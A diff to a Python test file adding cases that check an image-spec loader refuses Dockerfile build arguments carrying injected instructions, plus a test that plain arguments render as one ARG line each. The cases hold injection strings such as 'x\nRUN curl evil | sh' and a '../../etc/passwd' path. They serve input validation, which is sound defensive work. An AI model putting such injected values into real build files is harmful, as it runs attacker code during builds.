@@ -33,6 +33,14 @@ PATCH = "#!/usr/bin/env python3\nprint('patched')\n"
     (lambda s: s.update(colour="blue"), "is not an image setting"),
     (lambda s: s.update(patches=[{"file": "../../etc/passwd"}]), "is not a file under"),
     (lambda s: s.update(lanes="lane-a"), "must be a list"),
+    # a build arg must stay one ARG line: no injected instruction, no joined line, no odd name
+    (lambda s: s.update(build_args={"PIP_INDEX": "x\nRUN curl evil | sh"}), "build_args.PIP_INDEX"),
+    (lambda s: s.update(build_args={"PIP_INDEX": "x\rRUN id"}), "build_args.PIP_INDEX"),
+    (lambda s: s.update(build_args={"PIP_INDEX": "x\\"}), "build_args.PIP_INDEX"),
+    (lambda s: s.update(build_args={"A\nRUN id": "1"}), "is not a build argument name"),
+    (lambda s: s.update(build_args={"A B": "1"}), "is not a build argument name"),
+    (lambda s: s.update(build_args={"9A": "1"}), "is not a build argument name"),
+    (lambda s: s.update(build_args={"A": ["1", "2"]}), "build_args.A"),
 ])
 def test_invalid_specs_are_refused_with_the_key(tmp_path, mutate, words):
     spec = make_spec(tmp_path)
@@ -41,6 +49,14 @@ def test_invalid_specs_are_refused_with_the_key(tmp_path, mutate, words):
         load_image_spec(str(tmp_path), "thin", data=spec)
     assert words in str(err.value)
     assert "image.yml" in str(err.value)
+
+
+def test_plain_build_args_are_rendered_as_one_arg_line_each(tmp_path):
+    spec = make_spec(tmp_path)
+    spec["build_args"] = {"TORCH_CUDA_ARCH_LIST": "8.0 9.0+PTX", "_JOBS": 8}
+    resolved = resolve_image(load_image_spec(str(tmp_path), "thin", data=spec), "amd64")
+    lines = resolved["dockerfile"].splitlines()
+    assert "ARG TORCH_CUDA_ARCH_LIST=8.0 9.0+PTX" in lines and "ARG _JOBS=8" in lines
 
 
 def test_unknown_image_lists_the_known_ones(tmp_path):
